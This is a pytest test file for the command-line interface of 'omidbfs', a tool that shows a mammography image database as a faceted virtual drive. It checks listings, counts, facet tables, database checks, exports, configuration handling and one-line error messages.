"""The command line: output, exit status, and one clear line for each error."""

import contextlib
import csv
import fcntl
import io
import json
import os
import re
import stat
import struct
import subprocess
import sys
import termios
from collections import Counter
from collections.abc import Callable, Iterator
from functools import cache
from importlib.metadata import packages_distributions
from pathlib import Path

import click
import pytest
from click.testing import CliRunner, Result
from loguru import logger
from trees import Quirky, Tree

from omidbfs import __version__
from omidbfs.base import progress
from omidbfs.cli.commands.facets import share
from omidbfs.cli.main import main
from omidbfs.clinical.summary import HEADER
from omidbfs.database.problems import KINDS
from omidbfs.facets import FACETS, Kind

Run = Callable[..., Result]


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
    """A function that runs ``omidbfs`` without a configuration."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    return lambda *arguments: CliRunner().invoke(
        main, [str(argument) for argument in arguments], prog_name="omidbfs"
    )


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two clients, four studies, five images. A sidecar is missing."""
    tree = Tree(tmp_path_factory.mktemp("cli") / "db")
    client = tree.client("demd1").episode("1", "M")
    study = client.study("1.1", "1").image("1", ViewPosition="CC").image("2", ViewPosition="MLO")
    study.study("1.2").image("3", ViewPosition="CC")
    other = (
        tree.client("demd2", site="adde")
        .episode("1", "N")
        .study("2.1", "1")
        .image("4", ViewPosition="CC", Manufacturer="SIEMENS")
    )
    other.study("2.2", None, "1999-01-01").image("5", has_sidecar=False, dcm=b"no DICOM")
    return tree.root


def said(result: Result) -> str:
    """Return the output of a command that succeeds."""
    assert (result.exit_code, result.stderr) == (0, "")
    return result.stdout


def complaint(result: Result) -> str:
    """Return the one line of a command that fails."""
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr.startswith("omidbfs: ")
    assert result.stderr.count("\n") == 1
    return result.stderr.removeprefix("omidbfs: ").removesuffix("\n")


# ls, count, facets -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cohort", "lines"),
    [
        ("by-view", ["CC/", "MLO/", "unknown/"]),
        ("by-view/CC", ["1.dcm", "1.json", "3.dcm", "3.json", "4.dcm", "4.json"]),
        ("/by-view/MLO/by-file-type/dcm/", ["2.dcm"]),
        ("by-client", ["demd1/", "demd2/"]),
        ("by-client/demd2", ["nbss_demd2.json", "imagedb_demd2.json", "2.1/", "2.2/"]),
        ("by-client/demd2/2.1", ["4.dcm", "4.json"]),
        ("by-view/MLO/by-site/adde", []),
        (".omidbfs", ["status.json", "facets.json", "problems.jsonl"]),
    ],
)
def test_ls_lists_what_the_drive_shows(run: Run, database: Path, cohort: str, lines: list[str]) -> None:
    assert sorted(said(run("ls", database, cohort)).splitlines()) == sorted(lines)


def test_ls_of_the_root_lists_every_facet(run: Run, database: Path) -> None:
    lines = said(run("ls", database)).splitlines()
    assert lines == ["README.txt", "all/", *(f"by-{facet.name}/" for facet in FACETS), ".omidbfs/"]
    few = said(run("ls", database, "--facets", "view, by-fold")).splitlines()
    assert few == ["README.txt", "all/", "by-fold/", "by-view/", ".omidbfs/"]
    assert said(run("ls", database, "by-outcome/unlinked/by-view/MLO/by-site/adde", "--facets", "view")) == ""


def test_ls_gives_an_object_for_each_entry(run: Run, database: Path) -> None:
    entries = [json.loads(line) for line in said(run("ls", "--json", database, "by-client/demd2")).splitlines()]
    size = (database / "data/demd2/nbss_demd2.json").stat().st_size
    assert {"name": "nbss_demd2.json", "type": "file", "size": size} in entries
    assert [entry for entry in entries if entry["type"] == "directory"] == [
        {"name": "2.1", "type": "directory", "size": 0},
        {"name": "2.2", "type": "directory", "size": 0},
    ]


def test_ls_recursive_gives_the_paths_of_all_files_below(run: Run, database: Path) -> None:
    lines = said(run("ls", "-R", database, "/by-outcome/M/by-view")).splitlines()
    assert lines == [
        f"by-outcome/M/by-view/{name}"
        for name in ("MLO/2.dcm", "MLO/2.json", "CC/1.dcm", "CC/1.json", "CC/3.dcm", "CC/3.json")
    ]
    assert said(run("ls", "-R", "-0", database, "by-outcome/M/by-view")).split("\0") == [*lines, ""]
    objects = [json.loads(line) for line in said(run("ls", "-R", "--json", database, "by-client")).splitlines()]
    assert {"name": "by-client/demd2/2.1/4.json", "type": "file"} in [
        {"name": one["name"], "type": one["type"]} for one in objects
    ]
    assert {one["type"] for one in objects} == {"file"}
    assert said(run("ls", "-0", database, "by-view")) == "MLO/\0CC/\0unknown/\0"


@pytest.mark.parametrize(
    ("cohort", "images", "clients", "studies"),
    [("", 5, 2, 4), ("by-view/CC", 3, 2, 3), ("by-view/CC/by-view/MLO", 0, 0, 0), ("by-view/not-CC", 2, 2, 2)],
)
def test_count(run: Run, database: Path, cohort: str, images: int, clients: int, studies: int) -> None:
    assert said(run("count", database, cohort)) == f"{images}\n"
    counted = json.loads(said(run("count", database, cohort, "--json")))
    assert {**counted, "episodes": 0} == {"clients": clients, "episodes": 0, "studies": studies, "images": images}


def test_facets_shows_values_and_how_many_images_they_have(run: Run, database: Path) -> None:
    counted = json.loads(said(run("facets", "--json", database)))
    assert list(counted) == [facet.name for facet in FACETS if facet.kind is not Kind.NAME]
    assert counted["view"] == {"CC": 3, "MLO": 1, "unknown": 1}
    assert json.loads(said(run("facets", "--json", database, "by-view/CC")))["site"] == {"adde": 1, "stge": 2}
    head, *lines = (line.split() for line in said(run("facets", database)).splitlines())
    assert head == ["value", "images", "of", "5"]
    assert ["by-view/MLO", "1", "20", "%"] in lines
    assert ["by-view/CC", "3", "60", "%"] in lines
    assert {line[0]: line[1] for line in lines} == {
        f"by-{name}/{value}": str(images) for name, values in counted.items() for value, images in values.items()
    }


def on_terminal(*arguments: object, columns: int = 80, **environment: str) -> list[str]:
    """Return the lines that a command writes on a terminal."""
    terminal, its_end = os.openpty()
    fcntl.ioctl(its_end, termios.TIOCSWINSZ, struct.pack("HHHH", 50, columns, 0, 0))
    command = [sys.executable, "-m", "omidbfs", *map(str, arguments)]
    env = {name: value for name, value in os.environ.items() if name not in ("COLUMNS", "NO_COLOR")}
    env |= {"TERM": "xterm", "LC_ALL": "C.UTF-8", **environment}
    with subprocess.Popen(command, stdout=its_end, stderr=subprocess.DEVNULL, env=env) as process:
        os.close(its_end)
        shown = b""
        with contextlib.suppress(OSError):  # a terminal whose writers have ended
            while part := os.read(terminal, 1 << 16):
                shown += part
    os.close(terminal)
    assert process.returncode == 0
    return re.sub(r"\x1b\[[0-9;]*m", "", shown.decode()).replace("\r", "").splitlines()


@pytest.mark.parametrize("columns", [40, 80, 200])
def test_facets_on_a_terminal_fits_it_and_has_bars(run: Run, demo_database: Path, columns: int) -> None:
    run("count", demo_database)
    lines = on_terminal("facets", demo_database, columns=columns)
    assert max(map(len, lines)) <= columns
    bars = [len(re.sub("[^█▏▎▍▌▋▊▉]", "", line)) for line in lines]
    assert max(bars) == {40: 8, 80: 20, 200: 40}[columns]
    counted = json.loads(said(run("facets", "--json", demo_database)))
    row = lines[lines.index("by-marked") + 1].split()
    yes, total = counted["marked"]["yes"], sum(counted["marked"].values())
    assert row[:4] == ["yes", f"{yes:,}", f"{yes * 100 / total:.0f}", "%"]
    levels = [lines.index(f"by-{name}") for name in ("site", "outcome", "event", "view", "conspicuity", "grade")]
    assert levels == sorted(levels)


def test_long_lists_are_cut_on_a_terminal_unless_all_is_asked_for(run: Run, demo_database: Path) -> None:
    counted = json.loads(said(run("facets", "--json", demo_database)))
    most = max(counted.values(), key=len)
    assert len(most) > 12
    short, whole = (on_terminal("facets", demo_database, *options) for options in ((), ("--all",)))
    assert any(f"and {len(most) - 11} more: --all" in line for line in short)
    assert not any("more: --all" in line for line in whole)
    assert len(whole) > sum(map(len, counted.values()))


@pytest.mark.parametrize(
    ("images", "total", "shown"),
    [
        *((0, 0, "0 %"), (0, 9, "0 %"), (1, 201, "<1 %"), (1, 200, "1 %"), (149, 10_000, "1 %"), (1, 67, "1 %")),
        *((3, 200, "2 %"), (2, 3, "67 %"), (198, 200, "99 %"), (199, 200, ">99 %"), (200, 200, "100 %")),
    ],
)
def test_rounded_shares_are_0_only_for_none_and_100_only_for_all(images: int, total: int, shown: str) -> None:
    assert share(images, total) == shown


def test_bars_are_plain_where_a_terminal_has_no_others(run: Run, demo_database: Path) -> None:
    run("count", demo_database)
    text = "\n".join(on_terminal("facets", demo_database, LC_ALL="C", PYTHONCOERCECLOCALE="0", PYTHONUTF8="0"))
    assert text.isascii()
    assert "####" in text


def test_counts_agree_with_facets(run: Run, demo_database: Path) -> None:
    counted = json.loads(said(run("facets", "--json", demo_database)))
    for value, images in counted["outcome"].items():
        assert said(run("count", demo_database, f"by-outcome/{value}")) == f"{images}\n"


# check -----------------------------------------------------------------------------------------------------


def test_check_of_a_clean_database_ends_with_0(run: Run, demo_database: Path) -> None:
    result = run("check", "--dicom", demo_database)
    assert (result.exit_code, result.stdout) == (0, "")
    assert result.stderr.endswith(" images of 25 clients, 0 problems\n")


def test_one_is_singular(run: Run, tmp_path: Path) -> None:
    Tree(tmp_path / "db").client("demd1").episode("1").study("1.1", "1").image("1", has_sidecar=False)
    assert "1 image of 1 client, 2 problems\n" in run("check", "db").stderr
    (tmp_path / "db/images/demd1/1.1/1.dcm").unlink()
    assert "0 images of 1 client, 1 problem\n" in run("check", "db", "--verify-first").stderr
    assert ": written, 0 images of 1 client, " in run("index", "db", "--rebuild").stdout
    hint = "omidbfs: 0 images; `omidbfs check SOURCE` lists 1 problem\n"
    assert run("export", "db", "-o", "x.csv", "--verify-first").stderr == f"{hint}x.csv: 0 images\n"


def test_check_says_every_problem_and_ends_with_1(run: Run, database: Path) -> None:
    result = run("check", database)
    assert result.exit_code == 1
    assert "images/demd2/2.2/5.dcm: bad-dicom: not a DICOM file\n" in result.stdout
    assert "data/demd2/2.2/5.json: sidecar-missing\n" in result.stdout
    problems = len(result.stdout.splitlines())
    assert f"5 images of 2 clients, {problems} problems\n" in result.stderr
    assert f"       1  sidecar-missing: {KINDS['sidecar-missing']}\n" in result.stderr


@pytest.mark.parametrize("dicom", [[], ["--dicom"]])
def test_check_finds_every_planted_problem_and_no_other(
    run: Run, quirky_database: Quirky, dicom: list[str]
) -> None:
    result = run("check", "--json", quirky_database.path, *dicom)
    progress = r"reading clients: .*\n"  # on a busy machine
    assert (result.exit_code, re.sub(progress, "", result.stderr)) == (1, "")
    found = [json.loads(line) for line in result.stdout.splitlines()]
    planted = [p for p in quirky_database.problems if dicom or not p.detail.startswith("deep:")]
    assert Counter((p["file"], p["kind"]) for p in found) == Counter((p.file, p.kind) for p in planted)


# Options ---------------------------------------------------------------------------------------------------


def test_only_the_clients_of_a_file_are_read(run: Run, database: Path, tmp_path: Path) -> None:
    (tmp_path / "clients").write_text("\ufeffdemd2 \r\ndemd9\n\n demd2\n", encoding="utf-8")
    (tmp_path / "clients.csv").write_text("site,client\nadde, demd2\n")
    for name in ("clients", "clients.csv"):
        assert said(run("count", database, "--clients-file", name)) == "2\n"
    result = run("check", database, "--clients-file", "clients")
    assert "demd9: client-not-on-disk: named in the list of clients\n" in result.stdout


def test_two_trees_apart_need_no_source(run: Run, database: Path) -> None:
    assert said(run("count", "-", "--images", database / "images", "--data", database / "data")) == "5\n"


def test_windows_and_link_all_say_how_episodes_are_classified(run: Run, database: Path) -> None:
    normal, surgery = "by-outcome/normal", "by-event/surgery"
    assert said(run("count", database, normal)) == "1\n"
    assert said(run("count", database, normal, "--num-months-normal-follow-up", "36")) == "0\n"
    assert said(run("count", database, surgery)) == "0\n"
    assert said(run("count", database, surgery, "--link-all")) == "3\n"


def test_options_come_from_the_configuration(run: Run, database: Path, tmp_path: Path) -> None:
    (tmp_path / "omidbfs.toml").write_text("[count]\nlink-all = true\n")
    assert said(run("count", database, "by-event/surgery")) == "3\n"


def test_options_come_from_the_environment(run: Run, database: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OMIDBFS_COUNT_LINK_ALL", "1")
    assert said(run("count", database, "by-event/surgery")) == "3\n"


def test_the_version_is_that_of_the_package(run: Run) -> None:
    assert said(run("--version")) == f"omidbfs, version {__version__}\n"


@pytest.mark.parametrize("command", sorted(main.commands))
def test_every_command_and_every_option_explains_itself(run: Run, command: str) -> None:
    text = said(run(command, "--help"))
    assert text.startswith(f"Usage: omidbfs {command} ")
    for parameter in main.commands[command].params:
        assert parameter.param_type_name == "argument" or getattr(parameter, "help", None), parameter.name


# Errors -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("arguments", "line"),
    [
        (["count", "none"], "none: no such directory; SOURCE is the directory that holds images/ and data/"),
        (["count", "-"], "name a SOURCE directory, or both --images and --data"),
        (["count", "DB", "by-view/CCC"], "by-view/CCC: CCC is no value of by-view; did you mean CC?"),
        (["count", "DB", "by-viev/CC"], "by-viev/CC: there is no by-viev; did you mean by-view?"),
        (["count", "DB", "by-view/mlo"], "mlo is no value of by-view; did you mean MLO?"),
        (["count", "DB", "by-view/not-mlo"], "mlo is no value of by-view; did you mean not-MLO?"),
        (["count", "DB", "by-view/MLO,cc"], "MLO,cc: cc is no value of by-view; did you mean MLO,CC?"),
        (["count", "DB", "by-view/MLO,XX"], "XX is no value of by-view; `omidbfs facets SOURCE` shows what"),
        (["count", "DB", "by-view/XX,YY,CC"], "XX and YY are no values of by-view; `omidbfs facets"),
        (["count", "DB", "by-laterality/Left"], "Left is no value of by-laterality; did you mean L?"),
        (["count", "DB", "by-grade/3"], "3 is no value of by-grade; did you mean grade-3?"),
        (["count", "DB", "by-age/70-50"], "70-50 is no value of by-age; did you mean 50-70?"),
        (["count", "DB", "by-age/50..70"], "50..70 is no value of by-age; did you mean 50-70?"),
        (["count", "DB", "by-fold/10"], "by-fold/10: 10 is no value of by-fold; numbers are 0 to 9"),
        (["count", "DB", "by-age/50-60,131-"], "131- is no value of by-age; numbers are 0 to 130"),
        (["count", "DB", "by-year/12345678901"], "12345678901 is no value of by-year; numbers are 1900 to 2150"),
        (["count", "DB", "by-manufacturer/simens"], "no value of by-manufacturer; did you mean siemens?"),
        (["count", "DB", "drive/by-view/CC"], "drive/by-view/CC: there is no drive; did you mean by-view/CC?"),
        (
            ["count", "DB", "by-view/CC,not-MLO"],
            "not- stands only once, before all values; not-CC,MLO leaves out both",
        ),
        (["count", "DB", "by-view/not-not-CC"], "by-view/not-not-CC: not- stands only once, before all values"),
        (
            ["count", "DB", "nope/" + "by-view/not-CC/by-age/50-/" * 300],
            "there is no nope; `omidbfs facets SOURCE`",
        ),
        (["count", "DB", "drive/by-view/CX"], "there is no drive; `omidbfs facets SOURCE` shows what there is"),
        (["count", "DB", "/mnt/db/all"], "/mnt/db/all: there is no mnt; did you mean all?"),
        (["ls", "DB", "./by-view"], "./by-view: there is no .; did you mean by-view?"),
        (["ls", "DB", "drive/there"], "there is no drive; `omidbfs facets SOURCE` shows what there is"),
        (
            ["count", "drive/by-view/CC"],
            "drive/by-view/CC: no such directory; SOURCE is the directory that holds images/ and data/, or a "
            "mounted drive, and COHORT comes after it",
        ),
        (["count", "by-view/CC"], "or a mounted drive, and COHORT comes after it"),
        (["count", "DB", "by-density/a"], "there is no by-density; `omidbfs facets SOURCE` shows what there is"),
        (["count", "DB", "By_View/CC"], "there is no By_View; did you mean by-view?"),
        (["count", "DB", "SIEMENS"], "there is no SIEMENS; did you mean by-manufacturer/SIEMENS?"),
        (["count", "DB", "by-study/1.9"], "1.9 is no value of by-study; `omidbfs ls SOURCE by-study` lists them"),
        (["ls", "DB", "by-client/DEMD2"], "DEMD2 is no value of by-client; did you mean demd2?"),
        (["ls", "DB", "by-client/demd3"], "demd3 is no value of by-client; `omidbfs ls SOURCE by-client` lists"),
        (
            ["ls", "DB", "cohorts"],
            "cohorts: no configuration was read that names cohorts; --config FILE",
        ),
        (["count", "DB/data"], "DB/data: holds no images/ or data/ directory; SOURCE is"),
        (["ls", "DB", "zzz"], "zzz: there is no zzz; `omidbfs facets SOURCE` shows what there is"),
        (["ls", "DB", "by-view/CC/1.dcm"], "by-view/CC/1.dcm: 1.dcm is a file, and a directory is needed"),
        (["ls", "DB", "README.txt"], "README.txt: README.txt is a file, and a directory is needed"),
        (["count", "DB", "by-view/.."], "by-view/..: .. is no value of by-view"),
        (
            ["count", "DB", "by-view/CC/" * 300],
            "File name too long: no facet is found below a path of more than 3072 bytes",
        ),
        (["count", "DB", ".omidbfs"], ".omidbfs: holds texts about the drive, and a cohort is needed"),
        (
            ["count", "DB", "--clients-file", "none"],
            "--clients-file: none cannot be read: No such file or directory",
        ),
        (["count", "DB", "--clients-file", "."], "--clients-file: . cannot be read: Is a directory"),
        (["count", "DB", "--images", "none"], "none: no such directory (given as --images)"),
        (["--config", "none", "count", "DB"], "none: cannot be read: No such file or directory"),
        (["umount", "none"], "none: no drive of omidbfs is mounted there"),
        (["mount", "DB", "none"], "none: no such directory; create it: mkdir -p none"),
        (["mount", "DB", "DB"], "is the source itself"),
        (["demo", "DB"], "is not empty; name a new or an empty directory"),
        (["export", "DB", "--format", "omidb-summary", "-o", "none/x.csv"], "none: No such file or directory"),
        (["export", "DB", "--format", "omidb-summary", "-o", "."], ".: Is a directory"),
        (["export", "DB", "by-x", "--format", "omidb-summary", "-o", "x.csv"], "by-x: there is no by-x"),
    ],
)
def test_a_mistake_is_one_line(run: Run, database: Path, arguments: list[str], line: str) -> None:
    message = complaint(run(*(argument.replace("DB", str(database)) for argument in arguments)))
    assert line.replace("DB", str(database)) in message


@pytest.mark.parametrize("place", ["db/data", "db/images/", "db/data/demd1", "db/images/demd1/1.1", "."])
def test_a_source_that_is_near_is_named(run: Run, tmp_path: Path, place: str) -> None:
    Tree(tmp_path / "db").client("demd1").study("1.1").image("1")
    for source, named in ((place, "db"), (tmp_path / place, tmp_path / "db")):
        assert complaint(run("count", source)).endswith(f"; did you mean {named}?")


def test_no_source_is_near_an_empty_directory(run: Run, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    assert complaint(run("count", "empty")).endswith("or name them apart with --images and --data")


@pytest.mark.parametrize(
    "arguments",
    [
        ["cout"],
        ["count"],
        ["count", "x", "--link-al"],
        ["demo", "x", "--clients", "0"],
        ["count", "x", "--num-months-ci-prior", "soon"],
        ["export", "x"],
        ["export", "x", "--format", "pdf"],
        ["mount", "x", "y", "--links", "hard"],
    ],
)
def test_a_wrong_command_line_is_a_usage_error(run: Run, arguments: list[str]) -> None:
    result = run(*arguments)
    assert result.exit_code == 2
    assert "Usage: omidbfs" in result.stderr
    assert "Error: " in result.stderr


def test_a_mistake_in_the_configuration_is_one_line(run: Run, database: Path, tmp_path: Path) -> None:
    (tmp_path / "omidbfs.toml").write_text("link_al = true")
    assert complaint(run("count", database)) == (
        "omidbfs.toml:1: link_al is no option of any command; did you mean link-all?"
    )


@pytest.mark.parametrize(
    ("text", "arguments", "line"),
    [
        (
            '[mount]\nlinks = "symlnk"',
            ["mount", "DB", "."],
            "omidbfs.toml:2: links: 'symlnk' is not one of 'none', 'symlink'; did you mean symlink?",
        ),
        ('\nworkers = "many"\n', ["count", "DB"], "omidbfs.toml:2: workers: 'many' is not a valid integer range"),
        (
            'link-all = true\n[ls]\nfacets = "view,outcom"',
            ["ls", "DB"],
            "omidbfs.toml:3: facets: there is no facet outcom; did you mean outcome or undefined-outcome?",
        ),
        (
            "",
            ["ls", "DB", "--facets", "veiw"],
            "--facets: there is no facet veiw; did you mean view?",
        ),
        (
            "",
            ["ls", "DB", "--facets", "zzz"],
            "--facets: there is no facet zzz; `omidbfs facets SOURCE` shows them",
        ),
    ],
)
def test_a_wrong_value_in_the_configuration_is_refused_with_its_line_and_a_hint(
    run: Run, database: Path, tmp_path: Path, text: str, arguments: list[str], line: str
) -> None:
    (tmp_path / "omidbfs.toml").write_text(text)
    assert complaint(run(*(str(database) if argument == "DB" else argument for argument in arguments))) == line


@pytest.mark.parametrize("option", ["--uid", "--gid"])
def test_only_root_may_set_the_owner(
    run: Run, database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, option: str
) -> None:
    (tmp_path / "drive").mkdir()
    monkeypatch.setattr(os, "geteuid", lambda: 54321)
    assert complaint(run("mount", database, tmp_path / "drive", option, "0")) == (
        "--uid, --gid: only root may say whose the files are; leave them out"
    )


def test_the_configuration_may_be_named_behind_the_command(run: Run, database: Path, tmp_path: Path) -> None:
    (tmp_path / "some.toml").write_text('[cohorts.first]\nclients = "list.txt"\n')
    (tmp_path / "list.txt").write_text("demd1\n")
    for arguments in (
        ("--config", "some.toml", "count", database, "cohorts/first"),
        ("count", "--config", "some.toml", database, "cohorts/first"),
        ("count", database, "cohorts/first", "--config=some.toml"),
        ("count", "--config", "some.toml", "--", database, "cohorts/first"),
    ):
        assert said(run(*arguments)) == "3\n"


def test_an_unknown_cohort_gets_the_known_ones_and_their_configuration(
    run: Run, database: Path, tmp_path: Path
) -> None:
    line = "cohorts/trian: no configuration was read that names cohorts; --config FILE reads one"
    assert complaint(run("count", database, "cohorts/trian")) == line
    (tmp_path / "omidbfs.toml").write_text("")
    assert complaint(run("count", database, "cohorts/trian")) == "cohorts/trian: omidbfs.toml names no cohorts"
    (tmp_path / "some.toml").write_text('cohorts.train.path = "all"\ncohorts.test.path = "all"\n')
    there = "cohorts/{}: there is no cohort {}; those of some.toml are test, train"
    line = complaint(run("--config", "some.toml", "count", database, "cohorts/trian"))
    assert line == there.format("trian", "trian") + "; did you mean train?"
    line = complaint(run("--config", "some.toml", "ls", database, "cohorts/xyz/by-view"))
    assert line == "cohorts/xyz/by-view: there is no cohort xyz; those of some.toml are test, train"


@pytest.mark.parametrize(
    ("file", "hint"),
    [
        (None, "Add --format, or name the file as one on the drive: -o index.csv"),
        ("-", "Add --format, or name the file as one on the drive: -o index.csv"),
        ("x.xlsx", "Add --format, or name the file as one on the drive: -o index.csv"),
        (
            "x.json",
            ".json is of several formats (coco, summary, manifest, client). Add --format, or name the file as",
        ),
    ],
)
def test_a_name_that_gives_no_format_gets_a_hint(run: Run, file: str | None, hint: str) -> None:
    result = run("export", "x", *(() if file is None else ("-o", file)))
    assert result.exit_code == 2
    assert f"Error: what to write? {hint}" in " ".join(result.stderr.split())


@pytest.mark.parametrize("format", ["csv", "coco", "omidb-summary"])
def test_a_hyphen_is_standard_output(run: Run, database: Path, tmp_path: Path, format: str) -> None:
    command = ("export", database, "by-view/CC", "--format", format, "--verify-first")
    assert said(run(*command, "-o", "-")) == said(run(*command))
    assert list(tmp_path.glob("-*")) == []


def shell(command: str, *arguments: object, **environment: str) -> subprocess.CompletedProcess[str]:
    """Run a line of bash; ``$@`` are the arguments, ``omidbfs`` is the program."""
    environment = {**os.environ, "PYTHON": sys.executable, **environment}
    command = f'omidbfs() {{ "$PYTHON" -m omidbfs "$@"; }}; {command}'
    line = ["bash", "-o", "pipefail", "-c", command, "bash", *map(str, arguments)]
    return subprocess.run(line, capture_output=True, text=True, check=False, env=environment)


def test_a_traceback_needs_debug(database: Path) -> None:
    quiet = shell('omidbfs count "$@"', database, "by-view/X")
    assert quiet.stderr.count("\n") == 1
    loud = shell('omidbfs --debug count "$@"', database, "by-view/X")
    assert "Traceback" in loud.stderr
    assert loud.stderr.endswith(quiet.stderr)
    assert quiet.returncode == loud.returncode == 1


def test_a_closed_pipe_is_no_error(tmp_path: Path) -> None:
    study = Tree(tmp_path).client("demd1").study("1.1")
    (study.images).mkdir()
    for number in range(9000):
        (study.images / f"1.2.826.0.1.3680043.{number}.dcm").touch()
    done = shell('omidbfs ls "$@" all | head -n 1', tmp_path)
    assert done.stdout == "1.2.826.0.1.3680043.0.dcm\n"
    assert done.stderr == ""


@pytest.mark.parametrize("locale", ["C", "POSIX", "C.UTF-8"])
def test_any_name_is_printed_in_any_locale(tmp_path: Path, locale: str) -> None:
    tree = Tree(tmp_path)
    (tree.images / os.fsdecode(b"\xff\xc3\xbc")).mkdir()
    (tree.images / "line\nbreak\x1b[31m").mkdir()
    done = shell('omidbfs check "$@"', tmp_path, LC_ALL=locale, PYTHONCOERCECLOCALE="0", PYTHONUTF8="0")
    assert done.returncode == 1
    assert "defect" not in done.stderr
    assert done.stdout.count("unexpected-entry") == done.stdout.count("\n") == 2
    assert "images/line\\nbreak\\x1b[31m: unexpected-entry: " in done.stdout


# Progress --------------------------------------------------------------------------------------------------


def test_progress_is_shown_on_a_terminal_and_leaves_the_output_alone(database: Path) -> None:
    terminal, its_end = os.openpty()
    command = [sys.executable, "-m", "omidbfs", "index", "--rebuild", "--json", str(database)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=its_end, text=True) as process:
        os.close(its_end)
        shown = b""
        with contextlib.suppress(OSError):  # a terminal whose writers have ended
            while part := os.read(terminal, 1 << 16):
                shown += part
        assert json.loads(process.communicate()[0])["images"] == 5
    os.close(terminal)
    assert b"reading clients" in shown
    assert b"5 images" in shown


def test_progress_is_a_line_now_and_then_where_there_is_no_terminal(
    run: Run, database: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert run("index", database).stderr == ""
    monkeypatch.setattr(progress, "_QUIET", 0.0)
    result = run("index", database, "--rebuild", "--json")
    assert json.loads(result.stdout)["images"] == 5
    assert re.fullmatch(r"reading clients: 2 of 2, 5 images, \d+/s, 0 s left\n", result.stderr)


# A command that needs no index does not load one -------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "--help",
        "--version",
        "mount --help",
        "umount /none",
        "ls --help",
        "ls /none",
        "describe --help",
        "report /none -o x",
    ],
)
def test_a_command_that_needs_no_index_does_not_load_numpy(command: str) -> None:
    code = (
        "import sys; from omidbfs.cli.main import main\n"
        "try: main(sys.argv[1:])\n"
        "finally: print(*sorted({name.partition('.')[0] for name in sys.modules}), file=sys.stderr)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, *command.split()], capture_output=True, text=True, check=False
    )
    loaded = set(done.stderr.splitlines()[-1].split())
    assert "omidbfs" in loaded
    assert not loaded & {"numpy", "pydicom", "pyfuse3", "trio", "rich"}


# Starting takes longer than most answers. What is not imported takes no time.

_THIRD = {"click", "msgspec", "numpy", "orjson"}
_NOT_TO_ASK = re.compile(
    r"omidbfs\.(index\.(build|executors|chunk|merge|slices|completion|user_facets)|cohorts\.(named|describe)"
    r"|exports\.(?!(coordinates|formats|origin|paths|selection)$)\w+|database\.(header|sidecar|dicom|client$|study)|clinical\.client|facets\.(defined|lists)"
    r"|fuse\.(?!inside$|mounts$)\w+|report\.\w+|demo\.\w+|cli\.commands\.(?!count$|fstab$|ls$)\w+)"
    r"|(asyncio|concurrent|email|multiprocessing|subprocess|tempfile|tomllib)(\.|$)|importlib\.metadata"
)
"""What neither a count nor a listing nor a completion needs from a saved index, without a configuration."""


@cache
def _installed() -> frozenset[str]:
    return frozenset(packages_distributions())


@pytest.mark.parametrize("command", ["count", "count --json", "ls", "complete"])
def test_a_command_that_asks_a_saved_index_imports_what_it_needs(
    run: Run, database: Path, tmp_path: Path, command: str
) -> None:
    words = ["--index", str(tmp_path / "i"), str(database), "by-view/"]
    environment = {"HOME": str(tmp_path), "PATH": os.environ["PATH"]}
    assert run("index", *words[:-1]).exit_code == 0
    if command == "complete":
        line = ["omidbfs", "count", *words]
        environment |= {"COMP_WORDS": " ".join(line), "COMP_CWORD": "5", "_OMIDBFS_COMPLETE": "bash_complete"}
        words = []
    else:
        words = [*command.split(), *words]
    code = (
        "import sys; before = {*sys.modules}; from omidbfs.cli.main import main\n"
        "try: main(sys.argv[1:], prog_name='omidbfs')\n"
        "finally: print(*({*sys.modules} - before), file=sys.stderr)"
    )
    # -S: what site imports differs between installations
    places = os.pathsep.join(place for place in sys.path if place)
    done = subprocess.run(
        [sys.executable, "-S", "-c", code, *words],
        env={**environment, "PYTHONPATH": places},
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.stdout.strip()
    loaded = done.stderr.splitlines()[-1].split()
    assert "omidbfs.index.store" in loaded
    assert [name for name in loaded if _NOT_TO_ASK.match(name)] == []
    installed = {name.partition(".")[0] for name in loaded} & _installed()
    assert installed - {"omidbfs"} <= _THIRD | {"typing_extensions"}


_WITHOUT_PYFUSE3 = """
import sys
class Blocker:
    def find_spec(self, name, path=None, target=None):
        if name.partition(".")[0] in ("pyfuse3", "trio"):
            raise ImportError(f"{name} is blocked")
sys.meta_path.insert(0, Blocker())
from omidbfs.cli.main import main
main(sys.argv[1:], prog_name="omidbfs")
"""


@pytest.mark.parametrize(
    "command",
    [
        "ls",
        "count",
        "facets",
        "count --steps",
        "table --rows view --columns outcome",
        "export --format omidb-summary",
        "describe",
        "report -o report.html",
        "check",
        "index",
    ],
)
def test_a_command_that_mounts_nothing_needs_no_pyfuse3(database: Path, tmp_path: Path, command: str) -> None:
    words = [*command.split(), str(database), *(["1"] if command == "describe" else [])]
    done = subprocess.run(
        [sys.executable, "-c", _WITHOUT_PYFUSE3, *words], capture_output=True, text=True, check=False, cwd=tmp_path
    )
    assert done.returncode == (1 if command == "check" else 0), done.stderr
    assert "blocked" not in done.stderr


def test_a_command_that_needs_pyfuse3_reports_that_it_is_missing(database: Path, tmp_path: Path) -> None:
    (tmp_path / "drive").mkdir()
    command = [sys.executable, "-c", _WITHOUT_PYFUSE3, "mount", str(database), str(tmp_path / "drive")]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert "blocked" in done.stderr


# demo ------------------------------------------------------------------------------------------------------


def test_demo_writes_a_database_and_prints_its_size(run: Run, tmp_path: Path) -> None:
    assert said(run("demo", "db", "--clients", "2", "--seed", "3")) == "db: a synthetic OMI-DB of 2 clients\n"
    assert said(run("ls", "db", "by-client")).count("\n") == 2
    assert run("check", "--dicom", "db").exit_code == 0
